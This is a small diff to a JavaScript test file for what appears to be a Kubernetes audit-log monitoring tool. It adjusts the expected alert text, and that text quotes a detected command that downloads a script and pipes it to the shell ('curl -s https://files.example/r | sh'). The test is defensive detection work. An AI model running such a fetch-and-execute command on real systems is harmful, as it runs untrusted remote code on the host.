@@ -328,7 +328,7 @@ describe('the story', () => {
       'Why: quiet (low): the command of container report downloads and runs: curl -s https://files.example/r | sh',
       'Since: 2026-11-23 04:37:00 UTC, last seen 2026-11-23 04:37:01 UTC; 2 findings',
       'Unseen: nothing that the rules asked for: logged at RequestResponse',
-      `Do: $ watchbill explain ${id} audit.log`,
+      `Do: $ bin/watchbill explain ${id} audit.log`,
       `Do: $ kubectl -n data patch cronjob nightly-report -p '{"spec":{"suspend":true}}'`,
     ]);
   });
